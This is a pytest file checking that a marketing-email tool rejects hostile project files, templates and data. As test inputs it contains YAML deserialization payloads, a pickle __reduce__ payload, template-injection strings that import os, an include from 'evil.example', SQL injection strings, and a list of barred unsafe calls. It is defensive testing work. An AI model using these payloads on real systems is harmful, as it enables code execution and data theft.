"""F86–F88, B14, B15: project files that attack, templates that reach out, names that would become SQL."""

# ruff: noqa: E501  # an attack is read on one line

from __future__ import annotations

import ast
import os
import pickle
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from datasets import ROOT
from scenarios.town import RESIDUE, Shop, agreed, fill, item, link, mails, person, plant, sale, sent, told
from sizes import size
from tactful.flow.checking import check
from tactful.flow.loading import load
from tactful.flow.manifest import loaded
from tactful.flow.progress import Silent
from tactful.flow.workspace import open_workspace
from tactful.store import lake
from tactful.words.errors import TactfulError
from tactful.words.message import Part

LETTERS = size(2_000, whole=10_000)
HEAD = "id,given,family,email,language,born\n"


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n", "!!python/object/apply:os.system [id]", "x: !!python/name:os.system",
        "x: !!binary aGk=", "<<: *nothing", "[" * 5_000, "x: !include /etc/passwd", "? [a]\n: b", "x: 1\nx: 2\n", "\x00", "x: \ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "file", ["tactful.yaml", "policy.yaml", "programs/letter.yaml", "sources/people.yaml", "segments/everybody.yaml"]
)
def test_F86_a_hostile_project_file_is_told_and_runs_nothing(shop: Shop, file: str, text: str) -> None:
    (shop.root / file).write_text(text, "utf-8")
    assert any(finding.severity.value == "error" for finding in check(shop.root).findings)
    with pytest.raises(TactfulError), open_workspace(shop.root):
        pass
    assert not (shop.root / "lake").exists()


def test_F86_a_source_that_leads_out_of_the_project_loads_nothing(shop: Shop) -> None:
    outside = shop.root.parent / "secret.csv"
    outside.write_text(HEAD + "c1,Secret,Lee,a@mail.example,en,\n")
    for pattern in ("../secret.csv", str(outside), "data/../../secret.csv"):
        (shop.root / "sources/people.yaml").write_text(
            (Path(__file__).parent / "shop/sources/people.yaml")
            .read_text("utf-8")
            .replace("data/people*.csv", pattern),
            "utf-8",
        )
        assert "outside" in {finding.rule for finding in check(shop.root).findings}
    (shop.root / "sources/people.yaml").write_text(
        (Path(__file__).parent / "shop/sources/people.yaml").read_text("utf-8"), "utf-8"
    )
    (shop.root / "data" / "people.csv").unlink()
    (shop.root / "data" / "people.csv").symlink_to(outside)
    with pytest.raises(TactfulError), open_workspace(shop.root) as space:
        load(space, progress=Silent())


def test_F86_a_pickle_by_any_name_is_never_run(shop: Shop, tmp_path: Path) -> None:
    touched = tmp_path / "ran"

    class Harm:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return (os.mkdir, (str(touched),))

    payload = pickle.dumps(Harm())
    for name in ("model.json", "offers/x.yaml", "content/letter/x.mjml", "segments/x.sql", "data/people9.csv"):
        (shop.root / name).write_bytes(payload)
    found = check(shop.root).findings
    assert any(finding.severity.value == "error" for finding in found)
    for name in ("offers/x.yaml", "content/letter/x.mjml", "segments/x.sql"):
        (shop.root / name).unlink()
    with open_workspace(shop.root) as space:
        accounts = load(space, progress=Silent())
    assert {account.state for account in accounts} <= {"loaded", "held"}
    assert not touched.exists()


WRITES_CODE = {ROOT / "src" / "tactful" / "compose" / "rows.py"}
"""The one place that may make Python of a template; every word of it goes in as a literal, as the next test shows."""
SPEAKS_TO_ITSELF = {ROOT / "src" / "tactful" / "store" / "workers.py"}
"""The one place that may pickle: over pipes to processes that it began itself, never from or to a file."""


def test_F86_no_code_of_ours_can_run_what_it_reads() -> None:
    """No eval or unsafe YAML stands anywhere in the package; exec and pickle in one stated file each at most."""
    marshals = {"joblib", "marshal", "shelve", "dill", "cloudpickle"}
    for path in (ROOT / "src" / "tactful").rglob("*.py"):
        running = {"eval", "__import__"} | (set() if path in WRITES_CODE else {"exec", "compile"})
        running |= {"pickle.load", "open"} if path in SPEAKS_TO_ITSELF else set()
        barred = marshals if path in SPEAKS_TO_ITSELF else marshals | {"pickle"}
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                module = node.module or "" if isinstance(node, ast.ImportFrom) else ""
                assert not {name.split(".")[0] for name in [module, *(alias.name for alias in node.names)]} & barred, (
                    path
                )
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in running | {"yaml.load", "yaml.unsafe_load", "yaml.full_load", "os.system"}, (
                    f"{path}:{node.lineno}"
                )


HARM = "__import__('os').environ.__setitem__('TACTFUL_HARM','1')"
AS_PYTHON = [
    "{{ facts['x\"]; HARM #'] | default: '' }}", "\"\"\"\nHARM\n'''", "{{ \"\\\" }}HARM", "{% render 'footer', a: \"x'; HARM\" %}", "{% assign import = 1 %}{{ import }}",
    "{% assign E = 2 %}{{ E }}{% assign AT = 3 %}{{ AT }}{% assign put = 4 %}{{ put }}", "\\N{BULLET} \u2028 HARM", "{% case facts.orders %}{% when 'a\"\\n' %}HARM{% endcase %}",
    "{% for put in (1..2) %}{{ put }}{% endfor %}", "{{ 'a' | append: \"'); HARM; ('\" }}", "{% capture L %}HARM{% endcapture %}{{ L }}",
]  # fmt: skip


@pytest.mark.parametrize("attack", AS_PYTHON)
def test_F86_F87_words_of_a_template_are_never_words_of_a_program(shop: Shop, attack: str) -> None:
    shop.change("content/letter/everyone.de.mjml", "Das ist neu", f"{attack.replace('HARM', HARM)} Das ist neu")
    people = [person(f"c{n}", language="de" if n % 2 else "en") for n in range(6)]
    found = shop.told(customers=people, consents=agreed(people))
    assert "TACTFUL_HARM" not in os.environ
    assert {"c0", "c2", "c4"} <= set(found.words)
    for name in ("c1", "c3", "c5"):
        assert name in found.unwritten or "Das ist neu" in found.words[name][Part.TEXT]


REACHING = [
    "{{ env.HOME }}", "{{ settings.token_key }}", "{{ customer.__class__ }}", "{{ customer.email }}", "{% include '../../tactful' %}", "{% render '/etc/passwd' %}",
    "{{ brand.__init__.__globals__ }}", "{{ 'x' | read_file }}", "{{ links.keys }}", "{{ facts.email }}", "{{ message.decision_id }}", "{% include 'http://evil.example/x' %}",
]  # fmt: skip


@pytest.mark.parametrize("reach", REACHING)
def test_B14_a_template_that_reaches_for_more_does_not_compile_and_prints_nothing(shop: Shop, reach: str) -> None:
    shop.change("content/letter/everyone.mjml", "Here is what is new", f"{reach} Here is what is new")
    assert any(finding.severity.value == "error" for finding in check(shop.root).findings)


def test_F87_a_template_bomb_costs_its_own_letters_and_the_rest_of_the_run_goes_on(shop: Shop) -> None:
    shop.change(
        "content/letter/everyone.de.mjml",
        "Das ist neu",
        "{% for a in (1..1000) %}{% for b in (1..1000) %}{% for c in (1..1000) %}{{ customer.salutation }}{% endfor %}{% endfor %}{% endfor %} Das ist neu",
    )
    people = [person("c1", language="en"), person("c2", language="de"), person("c3", language="fr")]
    with shop.opened(customers=people, consents=agreed(people)) as space:
        found = told(space)
        assert set(found.words) == {"c1", "c3"}
        assert "everyone.de.mjml" in found.unwritten["c2"]
        assert sent(space, found.run).accepted == 2
    assert len(mails(shop.root)) == 2


NAMES = [
    'x" OR 1=1 --',
    "a;drop",
    "CASE WHEN 1 THEN 2 END",
    "x" * 10_000,
    "id); DELETE FROM customers; --",
    "\"; ATTACH 'x' AS y; --",
    "select",
    "a b",
    "$now",
    "?",
]


@pytest.mark.parametrize("name", NAMES)
def test_F88_a_hostile_column_of_a_file_is_a_name_and_nothing_more(shop: Shop, name: str) -> None:
    quoted = name.replace("'", "''")
    shop.change("sources/people.yaml", "{from: given,", f"{{from: '{quoted}',")
    header = name.replace('"', '""')
    (shop.root / "data" / "people.csv").write_text(
        HEAD.replace("given", f'"{header}"') + "c1,Anna,Lee,a@mail.example,en,\n", "utf-8"
    )
    errors = [finding for finding in check(shop.root).findings if finding.severity.value == "error"]
    if errors:
        return
    with open_workspace(shop.root) as space:
        load(space, progress=Silent())
        with space.ledger.reading() as tx:
            rows = lake.read(loaded(tx, "customers", root=space.lake)).to_pylist()
    assert [row["given_name"] for row in rows] == ["Anna"]


@pytest.fixture(scope="module")
def declared(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    return plant(tmp_path_factory.mktemp("declared"))


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    name=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40).filter(
        lambda text: not text.isidentifier()
    )
)
def test_F88_whatever_a_segment_is_asked_by_is_known_or_refused(declared: Shop, name: str) -> None:
    quoted = f"{name} > 3".replace("'", "''").replace("\n", " ").replace("\r", " ")
    (declared.root / "segments/everybody.yaml").write_text(f"segment: everybody\nwhen: '{quoted}'\n", "utf-8")
    assert any(finding.severity.value == "error" for finding in check(declared.root).findings)


def test_F88_a_hostile_id_range_and_title_go_through_every_query_as_values(shop: Shop) -> None:
    attacks = ["x' OR '1'='1", "'; DROP TABLE customers; --", "$now", ":customer_id", "%", 'x" OR 1=1 --', "?1"]
    people = [
        person(text, given_name="Anna", email=f"a{n}@mail.example", household_id=text, zone=text, country=text)
        for n, text in enumerate(attacks)
    ]
    items = [
        item(text, title=f"Bowl {n}", category=text, url=f"https://shop.example/i{n}") for n, text in enumerate(attacks)
    ]
    with shop.opened(customers=people, items=items, consents=agreed(people), links=[link(f"i{n}") for n in range(len(attacks))],
                     transactions=[sale(text, text) for text in attacks]) as space:  # fmt: skip
        found = told(space)
        assert set(found.words) == set(attacks)
        for number, text in enumerate(attacks):
            assert f"Bowl {number}" in found.words[text][Part.TEXT]
            assert f"ordered from {text} before" in found.words[text][Part.TEXT]
        fill(
            space,
            consents=[
                {
                    "customer_id": attacks[1],
                    "purpose": "marketing",
                    "channel": "email",
                    "state": "withdrawn",
                    "happened_at": space.clock.now,
                    "source": "page",
                }
            ],
        )
        assert sent(space, found.run).accepted == len(found.leaving) - 1


def test_B15_in_some_thousand_letters_no_mark_of_any_dialect_is_left(shop: Shop) -> None:
    """Names of every kind, three languages, four contents: nothing unfilled leaves, and what is held says why."""
    odd = [
        "",
        None,
        "{{ x }}",
        "%%FNAME%%",
        "*|FNAME|*",
        "[First Name]",
        "{leadfield=firstname}",
        "Anna",
        "<%= x %>",
        "Zoë",
    ]
    people = [person(f"c{n}", given_name=odd[n % 10], language=("en", "de", "fr", None)[n % 4]) for n in range(LETTERS)]
    items = [item(f"i{n}", title=odd[n] or "Bowl", category=f"range {odd[n]}") for n in range(10)]
    rows = {
        "customers": people,
        "items": items,
        "consents": agreed(people),
        "links": [link(f"i{n}") for n in range(10)],
    }
    rows["transactions"] = [sale(f"c{n}", f"i{n % 7}") for n in range(0, LETTERS, 2)]
    found = shop.told(**rows)
    assert len(found.words) == LETTERS
    for name in found.leaving:
        assert not RESIDUE.search(found.whole(name)), name
    assert all("placeholder-residue" in rules for rules in found.held.values())
    assert len(found.leaving) >= LETTERS // 2
